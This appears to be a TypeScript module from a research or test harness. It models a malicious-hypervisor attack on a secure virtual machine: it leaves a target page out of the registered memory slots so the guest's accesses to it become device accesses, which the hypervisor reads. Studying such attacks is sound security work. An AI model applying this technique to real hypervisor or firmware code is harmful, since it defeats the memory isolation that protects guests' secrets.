import { gpaOf, HCALL, ULTRACALL, UV_PAGE_SIZE, VECTOR } from '../../abi.ts';
import { type Attack, FIRST_LINE } from './attack.ts';

const REST_SLOT = 101;

/**
 * Leaves the target out of the memory slots, so that the guest's loads and stores there would be those of a device: H_LOGICAL_CI_LOAD and _STORE,
 * which the hypervisor answers and reads.
 */
export const leaveOutSlot: Attack = {
  name: 'leave-out-slot',
  summary: 'leave a page out of the memory slots, to get the guest’s accesses as those to a device',
  begin: (hv) => ({
    exited({ info }) {
      if (info.vector !== VECTOR.SYSTEM_CALL) return;
      const call = Number(hv.port.gpr(3));
      if (call === HCALL.H_LOGICAL_CI_STORE) hv.takeRegisters([hv.port.gpr(6)]);
      if (call !== HCALL.H_SVM_INIT_START) return;
      const { lpid, slots } = hv.victim;
      const [slot] = slots;
      const rest = (slot.baseGfn + slot.npages - hv.target - 1) * UV_PAGE_SIZE;
      const args = [lpid, gpaOf(hv.target) + UV_PAGE_SIZE, rest, 0, REST_SLOT];
      hv.ultracalls({ number: ULTRACALL.UV_REGISTER_MEM_SLOT, args });
      hv.did('withholding a page');
    },
    ultracall(number, args) {
      const own = number === ULTRACALL.UV_REGISTER_MEM_SLOT && Number(args[4]) < REST_SLOT;
      return own ? [args[0], args[1], gpaOf(hv.target) - Number(args[1]), ...args.slice(3)] : args;
    },
    line(n) {
      if (n !== FIRST_LINE || hv.isSecure()) return;
      hv.takeOut(hv.target);
      hv.did('withholding a page');
    },
    pagedOut(_gfn, page) {
      hv.take(page);
    },
  }),
};
